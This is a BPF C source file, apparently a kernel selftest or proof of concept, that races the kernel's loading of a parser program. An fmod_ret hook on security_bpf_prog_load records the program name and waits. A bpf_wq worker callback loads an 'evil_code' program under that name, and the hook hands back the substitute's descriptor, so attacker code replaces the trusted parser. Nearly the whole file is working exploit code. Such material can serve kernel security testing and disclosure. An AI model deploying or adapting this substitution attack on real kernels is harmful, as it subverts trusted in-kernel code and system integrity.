// SPDX-License-Identifier: GPL-2.0-only
/*
 * Against a kernel that loads the parser in a kernel thread and finds it by the
 * descriptor that comes back. A callback of bpf_wq runs in such a thread, too, with
 * the descriptors that all kernel threads share, and may load programs there. So:
 * "hook" learns the name under which the parser is being loaded, waits until
 * "in_worker" has loaded another one with this name, and answers with its descriptor.
 */
#include "common.bpf.h"
#include "work-queue.bpf.h"

struct shared shared;

enum { IDLE, NAMED, LOADED };

static long wait_loaded(__u64 i, void *deadline)
{
	return *(volatile unsigned int *)&shared.stage == LOADED ||
	       bpf_ktime_get_ns() > *(__u64 *)deadline;
}

#define NAME_OFF 48	/* of prog_name in union bpf_attr */

SEC("fmod_ret/security_bpf_prog_load")
int BPF_PROG(hook, void *prog, void *attr)
{
	__u64 deadline = bpf_ktime_get_ns() + 3000000000ull;
	char name[PROG_NAME];

	if (shared.stage != IDLE || !shared.victim ||
	    bpf_probe_read_kernel(name, sizeof(name), attr + NAME_OFF) ||
	    name[0] != 'k')
		return 0;
	__builtin_memcpy(shared.name, name, sizeof(name));
	shared.held++;
	shared.stage = NAMED;
	bpf_loop(1 << 23, wait_loaded, &deadline, 0);
	return shared.stage == LOADED ? shared.evil_fd : 0;
}

static int in_worker(void *map, int *key, void *value)
{
	struct evil_code *c = &shared.code;
	int fd;

	__builtin_memcpy(c->attr + NAME_OFF, shared.name, PROG_NAME);
	*(__u64 *)(c->attr + 8) = (__u64)c->insns;
	*(__u64 *)(c->attr + 16) = (__u64)c->license;
	fd = bpf_sys_bpf(BPF_PROG_LOAD, c->attr, sizeof(c->attr));
	if (!fd)	/* the hook cannot answer with that */
		fd = bpf_sys_bpf(BPF_PROG_LOAD, c->attr, sizeof(c->attr));
	shared.evil_fd = fd;
	shared.stage = LOADED;
	return 0;
}

SEC("syscall")
int start(void *ctx)
{
	int zero = 0;
	struct work *w = bpf_map_lookup_elem(&works, &zero);

	if (!w)
		return 1;
	bpf_wq_init(&w->wq, &works, 0);	/* -EBUSY when it is */
	if (bpf_wq_set_callback_impl(&w->wq, in_worker, 0, (void *)0))
		return 3;
	return bpf_wq_start(&w->wq, 0);
}

char _license[] SEC("license") = "GPL";
